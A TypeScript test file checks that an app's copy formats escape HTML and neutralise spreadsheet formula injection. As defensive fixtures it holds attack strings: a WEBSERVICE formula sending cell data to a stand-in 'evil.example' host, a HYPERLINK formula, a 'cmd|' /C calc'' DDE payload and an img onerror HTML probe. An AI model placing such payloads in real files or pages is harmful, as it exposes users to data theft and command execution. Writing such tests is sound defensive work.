import * as fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { copyFormatsOf } from '../../../../utils/answers/copying/copy-formats';
import { guardCell } from '../../../../utils/answers/spreadsheet';
import { copyFormats, type CopyFormat } from '../../../../utils/model/task';
import type { AnsweredTask } from '../../../../utils/model/job';

const described = (answer: string): AnsweredTask => ({ task: { kind: 'describe', detail: 'full' }, answer });
const readThere = (answer: string): AnsweredTask => ({ task: { kind: 'text' }, answer });
const readHere = (answer: string): AnsweredTask => ({
  task: { kind: 'text' },
  answer,
  answerer: { id: 'device', name: '', model: '' },
});
const copied = (answered: AnsweredTask, format: CopyFormat): string =>
  copyFormatsOf(answered).copy(format).text;

const mixed = `# Bill

Two **lamps**, de-
livered on [Monday](https://shop.example):

- one *lamp*
  with a bulb
- another

1. unpack
2. plug in

| Item | Price |
|------|-------|
| Lamp \\| brass | 45 |

\`\`\`js
let a = 1;

let b = 2;
\`\`\``;

describe('a service’s Markdown', () => {
  test.each<[CopyFormat, string]>([
    [
      'shown',
      'Bill\n\nTwo lamps, de-\nlivered on Monday:\n\n- one lamp\n  with a bulb\n- another\n\n1. unpack\n2. plug in\n\nItem\tPrice\nLamp | brass\t45\n\nlet a = 1;\n\nlet b = 2;',
    ],
    [
      'paragraphs',
      'Bill\n\nTwo lamps, delivered on Monday:\n\n- one lamp\n  with a bulb\n- another\n\n1. unpack\n2. plug in\n\nItem\tPrice\nLamp | brass\t45\n\nlet a = 1;\n\nlet b = 2;',
    ],
    [
      'oneLine',
      'Bill Two lamps, delivered on Monday: - one lamp with a bulb - another 1. unpack 2. plug in Item Price Lamp | brass 45 let a = 1; let b = 2;',
    ],
    ['markdown', mixed],
    ['tsv', 'Item\tPrice\nLamp | brass\t45'],
    ['code', 'let a = 1;\n\nlet b = 2;'],
  ])('is copied as %s', (format, expected) => {
    expect(copied(described(mixed), format)).toBe(expected);
  });

  test('tables are copied as HTML too, with their header', () => {
    const { html } = copyFormatsOf(described(mixed)).copy('tsv');
    expect(html).toBe(
      '<table>\n<thead>\n<tr><th scope="col">Item</th><th scope="col">Price</th></tr>\n</thead>\n<tbody>\n<tr><td>Lamp | brass</td><td>45</td></tr>\n</tbody>\n</table>',
    );
  });

  test('broken tables are repaired cell by cell', () => {
    const answer = 'The prices:\n| **Item** | Price |\n| Lamp | 45 | extra |\nThat is all.';
    expect(copied(described(answer), 'tsv')).toBe('Item\tPrice\t\nLamp\t45\textra');
    expect(copied(described(answer), 'shown')).toContain('The prices:');
    expect(copied(described(answer), 'shown')).toContain('That is all.');
  });

  test('a break in a cell stays in the cell', () => {
    const answer = '| a | b |\n|---|---|\n| 1<br>2 | "x" |';
    const { text, html } = copyFormatsOf(described(answer)).copy('tsv');
    expect(text).toBe('a\tb\n"1\n2"\t"""x"""');
    expect(html).toContain('<td>1<br>\n2</td>');
  });

  test('several tables are all copied', () => {
    const answer = '| a | b |\n|---|---|\n| 1 | 2 |\n\nand\n\n> | c | d |\n> |---|---|\n> | 3 | 4 |';
    expect(copied(described(answer), 'tsv')).toBe('a\tb\n1\t2\n\nc\td\n3\t4');
  });

  test('a table in a fence is one', () => {
    expect(copied(described('```csv\na,"b, c"\n1,2\n```'), 'tsv')).toBe('a\tb, c\n1\t2');
    expect(copied(described('```\n+--+--+\n| a | b |\n+--+--+\n```'), 'tsv')).toBe('a\tb');
    expect(copyFormatsOf(described('```sh\na | b\n--- | ---\n```')).formats).not.toContain('tsv');
  });

  test('a long list loses its marks as a short one does', () => {
    const items = Array.from(
      { length: 400 },
      (_none, at) => `- **Item ${at}** has \`code\` and words after it, many of them`,
    );
    const text = copied(described(items.join('\n')), 'shown');
    expect(text).toContain('- Item 399 has code and words');
    expect(text).not.toMatch(/[*`]/);
  });

  test('nothing in a cell is HTML', () => {
    const { html = '' } = copyFormatsOf(
      described('| a | <img src=x onerror=y> |\n|---|---|\n| & | " |'),
    ).copy('tsv');
    expect(html).toContain('&lt;img src=x onerror=y&gt;');
    expect(html).not.toContain('<img');
  });

  test('without code, the whole text is a block', () => {
    expect(copied(described('a ```` b'), 'code')).toBe('`````\na ```` b\n`````');
  });

  test('words are offered in every format but a table', () => {
    expect(copyFormatsOf(described('words')).formats).toEqual([
      'shown',
      'paragraphs',
      'oneLine',
      'markdown',
      'code',
    ]);
  });
});

describe('text that was read on this device', () => {
  test('loses its backslashes, except as Markdown', () => {
    const answer = '- \\*one\\*\n- 2 * 3\n\nA para-\ngraph\n\n```\n\\n\n```';
    expect(copied(readHere(answer), 'shown')).toBe('- *one*\n- 2 * 3\n\nA para-\ngraph\n\n\\n');
    expect(copied(readHere(answer), 'paragraphs')).toBe('- *one*\n- 2 * 3\n\nA paragraph\n\n\\n');
    expect(copied(readHere(answer), 'markdown')).toBe(answer);
  });

  test('a lettered list stays in its lines', () => {
    expect(copied(readHere('a) one\nb) two'), 'paragraphs')).toBe('a) one\nb) two');
  });
});

describe('text that a service read', () => {
  const text = '# 1 *is*\nnot Markdown\n\na  b\n\nInter-\nnational\n\n• one\n• two';
  test('stays as it is', () => {
    expect(copied(readThere(text), 'shown')).toBe(text);
    expect(copied(readThere(text), 'paragraphs')).toBe(
      '# 1 *is* not Markdown\n\na  b\n\nInternational\n\n• one\n• two',
    );
  });

  test('becomes Markdown that shows it literally', () => {
    expect(copied(readThere('# 1 *is*\n1) x'), 'markdown')).toBe('\\# 1 \\*is\\*\\\n1\\) x');
    expect(copied(readThere('a\tb|c\n1\t2'), 'markdown')).toBe('| a | b\\|c |\n| --- | --- |\n| 1 | 2 |');
  });
});

test('the format chosen last is the default where the answer has it', () => {
  const [words, table, tableIn] = ['words', '| a | b |\n|---|---|', 'Words.\n\n| a | b |\n|---|---|'].map(
    (answer) => copyFormatsOf(described(answer)),
  );
  expect(words?.meant('tsv')).toBe('shown');
  expect(words?.meant('paragraphs')).toBe('paragraphs');
  expect(table?.meant(undefined)).toBe('tsv');
  expect(table?.meant('shown')).toBe('shown');
  expect(tableIn?.meant(undefined)).toBe('shown');
  expect(tableIn?.meant('tsv')).toBe('tsv');
});

test.each([
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("https://evil.example")', '\'=HYPERLINK("https://evil.example")'],
  [' \u200b=1', " \u200b'=1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['+1+1', "'+1+1"],
  ["-2+cmd|' /C calc'!A0", "'-2+cmd|' /C calc'!A0"],
  ['＝1', "'＝1"],
  ['a\n=1', "a\n'=1"],
  ['-5', '-5'],
  ['-5.25 %', '-5.25 %'],
  ['+3,000.00', '+3,000.00'],
  ['-€5', '-€5'],
  ['- 12 €', '- 12 €'],
  ['+49 30 123456', '+49 30 123456'],
  ['-', '-'],
  ['--', '--'],
  ['−5', '−5'],
  ['a=b', 'a=b'],
])('of %j a spreadsheet gets %j', (cell, expected) => {
  expect(guardCell(cell)).toBe(expected);
});

test('a spreadsheet gets any cells back and runs none', () => {
  const cell = fc.string({
    maxLength: 10,
    unit: fc.constantFrom('a', '1', '=', '+', '-', '@', ' ', '"', '<', '&'),
  });
  fc.assert(
    fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { minLength: 1 }), (body) => {
      // The last cell is never empty: white space at the end of an answer says nothing.
      const rows = body.map((row) => ['x', ...row.map((text) => text.trim()), 'y']);
      const answer = [['h', 'i', 'j', 'k', 'l'], ...rows].map((row) => row.join('\t')).join('\n');
      const { text } = copyFormatsOf(readThere(answer)).copy('tsv');
      const { data } = Papa.parse<string[]>(text, { delimiter: '\t' });
      expect(data.slice(1)).toEqual(rows.map((row) => row.map(guardCell)));
      for (const found of data.flat()) expect(found).not.toMatch(/^\s*[=@]/);
    }),
  );
});

test('every offered format of any answer is made quickly', () => {
  const line = fc.oneof(
    fc.string({ maxLength: 30 }),
    fc.constantFrom(
      '| a | b |',
      '|---|---|',
      '```',
      '- a',
      '1. b',
      '> q',
      '# h',
      '',
      'a\tb',
      'a   b   c',
      '{"a":1}',
    ),
  );
  fc.assert(
    fc.property(fc.array(line, { maxLength: 12 }), (lines) => {
      for (const answered of [described, readThere, readHere].map((of) => of(lines.join('\n')))) {
        const copying = copyFormatsOf(answered);
        for (const format of copying.formats) {
          const { text } = copying.copy(format);
          if (format === 'oneLine') expect(text).not.toMatch(/[\n\t]/);
          if (answered.answer.trim() === '' && format !== 'code') expect(text).toBe('');
        }
        expect(copyFormats.filter((format) => copying.formats.includes(format))).toEqual(copying.formats);
      }
    }),
  );
});

/** Squares of a megabyte take hours: a loaded machine is not mistaken for one. */
const aMinute = 60_000;

test.each([
  ['of 1 MB', 'Words of a long answer, and | a bar.\n'.repeat(28_000)],
  ['of one line', 'word '.repeat(20_000)],
  ['of deep nesting', `${'> '.repeat(400)}a\n${'- '.repeat(400)}b`],
  ['of a long table', `| a | b |\n|---|---|\n${'| 1 | 2 |\n'.repeat(20_000)}`],
])(
  'every format of an answer %s is made, in a time that does not grow with its square',
  { timeout: aMinute },
  (_name, answer) => {
    for (const answered of [described(answer), readThere(answer)]) {
      const copying = copyFormatsOf(answered);
      expect(copying.formats).toContain('shown');
      for (const format of copying.formats) expect(copying.copy(format).text).not.toBe('');
    }
  },
);

describe('a formula in a row', () => {
  const formula = '=WEBSERVICE("https://evil.example/"&A1)';
  const words = (table: string): string => `Here it is.\n\n${table}\n\nThat was all.`;
  test.each([
    ['of bars', `| a | b |\n|---|---|\n| x | ${formula} |\n| ${formula} | y |`],
    ['of uneven bars', `| a | b | c |\n|---|---|---|\n| x | ${formula} |\n| ${formula} | y | z | w |`],
    ['in a list', `- one\n\n  | a | b |\n  |---|---|\n  | x | ${formula} |\n- two`],
    ['of tabs', `a\tb\tc\nx\t${formula}\tz\n${formula}\ty\tz`],
    ['of one tab', `Total\t${formula}`],
    ['after a line of words', `Sums:\na\tb\nx\t${formula}\n${formula}\ty`],
    ['in a fence', `\`\`\`\na\tb\nx\t${formula}\n\`\`\``],
    ['of other signs', 'a\tb\n@SUM(A1)\t+1+cmd\n-2+3\t＝1'],
  ])('is copied as text from a table %s, in every format', (_written, table) => {
    for (const answered of [described(words(table)), readThere(words(table)), described(table)]) {
      for (const format of ['shown', 'paragraphs', 'tsv'] as const) {
        if (format === 'tsv' && !copyFormatsOf(answered).formats.includes('tsv')) continue;
        const rows = copied(answered, format).split('\n');
        const cells = rows.flatMap((row) => (row.trim().includes('\t') ? row.split('\t') : []));
        expect(cells.filter((cell) => /^[\s"]*[=@＝]|^[\s"]*[+-]\d+\+/.test(cell))).toEqual([]);
      }
    }
  });

  test.each([
    ['a formula alone', formula],
    ['indented lines', 'all:\n\t@echo done\n\t- item'],
    ['code', '```make\nall:\tone\n\t@echo\tdone\n```'],
    ['signed numbers', 'a\tb\n-5\t+3,000.00\n\u2212\t+49 30 123456'],
  ])('is no reason to change %s', (_what, answer) => {
    const code = answer.replaceAll(/^```\w*\n|\n```$/g, '');
    expect(copied(described(answer), 'shown')).toBe(code);
  });
});
